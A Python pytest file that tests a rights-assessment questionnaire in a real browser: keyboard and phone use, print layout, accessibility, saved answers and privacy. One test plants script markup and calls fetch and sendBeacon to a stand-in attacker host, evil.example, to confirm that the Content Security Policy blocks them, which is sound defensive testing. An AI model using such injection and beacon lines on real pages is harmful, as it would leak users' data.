"""The HTML form in a real browser, filled in as a person would: by keyboard, on a phone, in the dark, on paper.

Needs a Chromium on this machine, as test_browser.py does.
"""

from __future__ import annotations

import json
import re
import shutil
from dataclasses import replace
from functools import cache
from io import BytesIO

import pytest
from axe_playwright_python.sync_playwright import Axe
from pypdf import PdfReader

from browser_helpers import browser, scrolls_sideways, shown_in, squeezed
from conftest import ROOT
from report_helpers import all_standards
from rightscheck.check.forms import make_form
from rightscheck.check.prepared import asked_indicators
from rightscheck.cli.translate import fixed_words
from rightscheck.model.form import FORM
from rightscheck.read.answers import load_answers
from rightscheck.read.translations import translated
from rightscheck.render.forms import FORM_RENDERERS
from rightscheck.seal import sealed

__all__ = ["browser"]  # a fixture
PHONE = {"viewport": {"width": 360, "height": 740}}
VIEWS = {
    "light": {"viewport": {"width": 1200, "height": 900}},
    "dark": {"viewport": {"width": 1200, "height": 900}, "color_scheme": "dark"},
    "small phone": {"viewport": {"width": 320, "height": 640}},
}
PROGRAM_NAME = 'Casa: "Luz" \\ # 7'
STATED = (
    {},
    {"housing": ["none"], "residents": ["adults"]},
    {"housing": ["emergency"], "residents": ["minors-in-custody"]},
    {"housing": ["transitional"], "residents": ["adults", "minors-in-custody"]},
    {"residents": ["minors-with-parent"]},
)


@cache
def form_for(role, short=True, language="en"):
    standards = [translated(one, language) for one in all_standards()]
    return make_form(standards, role, short=short, language=language, words=fixed_words("form", language))


@cache
def page_of(role, short=True, language="en"):
    form = form_for(role, short, language)
    return sealed(FORM_RENDERERS["html"](form, fixed_words("form", language)).decode(), "html")


@pytest.fixture
def show(browser, tmp_path):
    """Open a form in a view of its own; the page remembers what it asked for and complained of."""
    with shown_in(browser, lambda: tmp_path / f"form-{len(list(tmp_path.glob('form-*.html')))}.html") as shown:
        yield shown


def saved(page, tmp_path, press="Enter"):
    """Save by keyboard, and give the file's name and text."""
    page.locator("#save").focus()
    with page.expect_download() as waiting:
        page.keyboard.press(press)
    waiting.value.save_as(tmp_path / "saved")
    return waiting.value.suggested_filename, (tmp_path / "saved").read_text("utf-8")


def tab_to(page, inside):
    """Press Tab until the focus is in a place; see that it can be seen each time."""
    for _ in range(12):
        page.keyboard.press("Tab")
        if page.evaluate("one => !!document.activeElement.closest(one)", inside):
            return
    raise AssertionError(f"{inside} is not reached by Tab")


@pytest.mark.parametrize("language", ["en", "es"])
def test_a_resident_fills_it_in_by_keyboard_on_a_phone_and_saves(language, show, tmp_path):
    form = form_for("residents", language=language)
    page = show(page_of("residents", language=language), **PHONE)
    assert not page.locator(".notice").is_visible()
    expected = {}
    for number, question in enumerate(form.questions):
        tab_to(page, f"#q{number}")
        assert page.evaluate("getComputedStyle(document.activeElement.closest('.answer')).outlineStyle") == "solid"
        assert is_in_sight(page)
        if number % 5 == 4:
            continue  # left blank
        page.keyboard.press("Space")
        for _ in range(number % 3):
            page.keyboard.press("ArrowDown")
        expected[question.id] = question.answers[number % 3].id
        assert str(len(expected)) in page.locator("#count").inner_text().split()
    tab_to(page, "#save")
    name, text = saved(page, tmp_path)
    data = json.loads(text)
    assert re.fullmatch(r"20\d\d-(0[1-9]|1[0-2])", data.pop("month"))
    copy = data.pop("copy")
    assert re.fullmatch(r"[0-9a-f]{12}", copy)
    assert name == f"rightscheck-answers-{copy[:6]}.json"
    assert data == {
        "rightscheck": FORM,
        "role": "residents",
        "edition": form.edition,
        "answers": expected,
    }
    told = fixed_words("form", language).saved["residents"].format(file=name)
    assert page.locator("[role=status]").inner_text() == told
    assert [url for url in page.requests if not url.startswith("blob:")] == [page.url]
    assert page.complaints == []


def test_what_six_people_save_becomes_counts_and_a_report(show, tmp_path, call):
    """From the page in the browser to the first page of the report."""
    worst = {question.id: next(a.id for a in question.answers if a.worth == 0) for question in FORM_OF_SIX}
    (tmp_path / "forms").mkdir()
    for _ in range(6):
        page = show(page_of("residents"), **PHONE)
        for number, question in enumerate(FORM_OF_SIX):
            tab_to(page, f"#q{number}")
            page.keyboard.press("Space")
            for _ in range([answer.id for answer in question.answers].index(worst[question.id])):
                page.keyboard.press("ArrowDown")
        tab_to(page, "#save")
        name, text = saved(page, tmp_path)
        (tmp_path / "forms" / name).write_text(text, "utf-8")
    (tmp_path / "house").mkdir()
    shutil.copy(ROOT / "examples" / "rights-based" / "answers.yaml", tmp_path / "house")
    assert call("collect", "forms", "-o", "house/residents.csv").code == 0
    assert call("assess", "house", "-o", "report.md").code == 1
    report = (tmp_path / "report.md").read_text("utf-8")
    first = report[: report.index("## Red flags in full")]
    assert "6 residents" in first
    assert "(Disputed)" in first


FORM_OF_SIX = form_for("residents").questions


def is_in_sight(page):
    """Whether the focus stands below the bar that stays at the top, and within the window."""
    return page.evaluate(
        """() => {
            const here = document.activeElement.getBoundingClientRect();
            const bar = document.getElementById('bar').getBoundingClientRect();
            return here.top >= bar.bottom - 1 && here.bottom <= innerHeight + 1 || here.bottom <= bar.top;
        }"""
    )


def test_saving_twice_is_one_copy_and_clearing_begins_another(show, tmp_path):
    page = show(page_of("residents"), **PHONE)
    page.on("dialog", lambda dialog: dialog.accept())
    page.locator("#q0 input").first.check()
    page.keyboard.press("Enter")  # in a question: nothing is saved by it
    assert page.locator("#said").inner_text() == ""
    first, second = (json.loads(saved(page, tmp_path)[1]) for _ in range(2))
    assert first == second
    assert first["answers"] == {"SV-02": "yes"}
    page.locator("#clear").press("Enter")
    assert page.locator("input:checked").count() == 0
    third = json.loads(saved(page, tmp_path, "Space")[1])
    assert third["answers"] == {}
    assert third["copy"] != first["copy"]


def test_nothing_is_kept_when_the_page_is_loaded_again(show):
    page = show(page_of("residents"), **PHONE)
    page.locator("#q0 input").first.check()
    page.reload()
    assert page.locator("input:checked").count() == 0
    assert page.evaluate("localStorage.length + sessionStorage.length + document.cookie.length") == 0


@pytest.mark.parametrize(
    ("role", "view"), [*(("residents", view) for view in VIEWS), ("leadership", "small phone"), ("staff", "dark")]
)
def test_axe_finds_nothing(role, view, show):
    page = show(page_of(role, language="es" if view == "light" else "en"), **VIEWS[view])
    page.locator("#q0 input").first.check()
    page.on("dialog", lambda dialog: dialog.accept())
    with page.expect_download():
        page.locator("#save").click()
    results = Axe().run(page, options={"resultTypes": ["violations"]})
    assert results.response["passes"], "axe looked at nothing"
    assert results.violations_count == 0, results.generate_report()
    assert not scrolls_sideways(page)


@pytest.mark.parametrize("paper", ["Letter", "A4"])
def test_on_paper_there_are_boxes_and_no_buttons(paper, show):
    form = replace(form_for("residents"), return_to="Ana, of the clinic")
    page = show(FORM_RENDERERS["html"](form, fixed_words("form", "en")).decode())
    printed = PdfReader(BytesIO(page.pdf(format=paper))).pages
    text = squeezed(" ".join(one.extract_text() for one in printed))
    assert [q.text for q in form.questions if squeezed(q.text) not in text] == []
    words = fixed_words("form", "en")
    assert squeezed(words.month_hint) in text
    assert squeezed(words.on_paper["residents"]) in text
    assert squeezed(words.on_page["residents"]) not in text
    assert squeezed(words.return_to.format(whom=form.return_to)) in text
    assert len(printed) <= 3
    page.emulate_media(media="print")
    assert page.locator("button:visible, progress:visible, .skip:visible, #said:visible").count() == 0
    boxes = page.locator(".answer input")
    assert boxes.count() == page.locator(".answer input:visible").count() == sum(len(q.answers) for q in form.questions)
    style = "one => { const s = getComputedStyle(one); return [s.appearance, s.borderTopStyle, s.backgroundColor] }"
    assert boxes.first.evaluate(style) == ["none", "solid", "rgb(255, 255, 255)"]


def test_on_paper_leadership_finds_every_question_with_the_facts_it_needs(show):
    form = form_for("leadership")
    page = show(page_of("leadership"))
    page.emulate_media(media="print")
    assert page.locator("fieldset:visible").count() == len(form.questions)
    assert page.locator(".when:visible").count() == sum(q.relevant is not None for q in form.questions)


def test_without_scripts_it_says_that_it_can_be_printed(show):
    page = show(page_of("residents"), java_script_enabled=False)
    assert page.get_by_text(fixed_words("form", "en").no_script).is_visible()
    assert page.locator("button:visible, #bar:visible").count() == 0
    assert page.locator("fieldset:visible").count() == 20


def test_nobody_can_plant_a_script_or_send_the_answers_away(show):
    planted = (
        "<script>document.title = 'run'</script><img src='https://evil.example/x.png'>"
        "<p onclick='1'>x</p><script type='text/plain'></script></body>"
    )
    page = show(page_of("residents").replace("</body>", planted))
    assert page.title() == fixed_words("form", "en").titles["residents"]
    sent = "fetch('https://evil.example/').then(() => 'sent', () => 'refused')"
    assert page.evaluate(sent) == "refused"
    assert page.evaluate("navigator.sendBeacon('https://evil.example/', 'x') && 0") in (0, False)
    assert len([line for line in page.complaints if "Content Security Policy" in line]) >= 4


@pytest.mark.parametrize("facts", STATED, ids=str)
def test_leadership_is_asked_what_the_facts_leave_in_and_saves_answers_to_assess(facts, show, tmp_path):
    form = form_for("leadership", short=False)
    page = show(page_of("leadership", short=False), **PHONE)
    page.evaluate(
        """facts => {
            for (const [fact, values] of Object.entries(facts)) for (const value of values)
                document.querySelector(`[data-id="fact:${fact}"] [value="${value}"]`).click();
        }""",
        facts,
    )
    stated = {id: frozenset(values) for id, values in facts.items()}
    shown = page.locator("fieldset:visible").evaluate_all("all => all.map(one => one.dataset.id)")
    expected = [indicator.id for indicator in asked_indicators(all_standards(), stated)]
    assert [id for id in shown if not id.startswith("fact:")] == expected
    page.locator("[data-id='fact:beds'] input").fill("12")
    each = "fieldset:not([hidden]):not([data-id^=fact]) input"
    page.evaluate("each => document.querySelectorAll(each).forEach(one => { one.checked = true })", each)
    page.locator("[data-id='fact:secret_address'] [value=yes]").check()
    page.locator("#program").fill(PROGRAM_NAME)
    name, text = saved(page, tmp_path)
    path = tmp_path / name
    assert name == "answers.yaml"
    path.write_text(text, "utf-8")
    sheet = load_answers(path, all_standards())
    assert sheet.program == PROGRAM_NAME
    assert {id: sheet.facts[id] for id in stated} == stated
    assert sheet.facts["beds"] == 12
    assert sheet.facts["secret_address"] == {"yes"}
    assert dict(sheet.standards) == dict(form.standards)
    now = page.locator("fieldset:visible").evaluate_all("all => all.map(one => one.dataset.id)")
    answered = [id for id in now if not id.startswith("fact:")]
    assert {id: answer.choice for id, answer in sheet.answers.items()} == dict.fromkeys(answered, "unknown")


def test_an_empty_form_of_leadership_saves_answers_that_can_be_read(show, tmp_path):
    page = show(page_of("leadership"), **PHONE)
    name, text = saved(page, tmp_path)
    (tmp_path / name).write_text(text, "utf-8")
    sheet = load_answers(tmp_path / name)
    assert (sheet.answers, sheet.program) == ({}, "")
    assert "program" not in text


@pytest.mark.parametrize("language", ["en", "es"])
def test_the_first_thing_asked_of_leadership_is_the_program_s_name(language, show, tmp_path):
    page = show(page_of("leadership", language=language), **PHONE)
    tab_to(page, "#questions")
    assert page.get_by_label(fixed_words("form", language).program).evaluate("one => one === document.activeElement")
    page.keyboard.type("Kite")
    page.evaluate("document.getElementById('program').value += '\\u2028\\u0007and\\u00a0Key'")  # as pasted
    _, text = saved(page, tmp_path)
    assert text.splitlines()[:2] == ["rightscheck: answers/1", 'program: "Kite and\u00a0Key"']
    said = page.locator("#said").inner_text()
    assert ("--lang es -o informe.html" in said) == (language == "es")
    page.on("dialog", lambda dialog: dialog.accept())
    page.locator("#clear").press("Enter")
    assert page.locator("#program").input_value() == ""


@pytest.mark.parametrize("role", ["staff", "leadership", "residents"])
def test_letters_stand_on_paper_and_not_on_the_screen(role, show):
    form = form_for(role)
    page = show(page_of(role))
    assert page.locator(".letter:visible").count() == 0
    page.emulate_media(media="print")
    letters = [letter for q in form.questions for letter in q.letters.values()] if role != "residents" else []
    shown = page.locator(".letter:visible")
    assert [text.strip(") ") for text in shown.all_inner_texts()] == letters
    text = squeezed(" ".join(one.extract_text() for one in PdfReader(BytesIO(page.pdf(format="A4"))).pages))
    lines = [f"{q.letters[a.id]}){a.text}" for q in form.questions for a in q.answers]
    assert [line for line in lines if (squeezed(line) in text) != (role != "residents")] == []
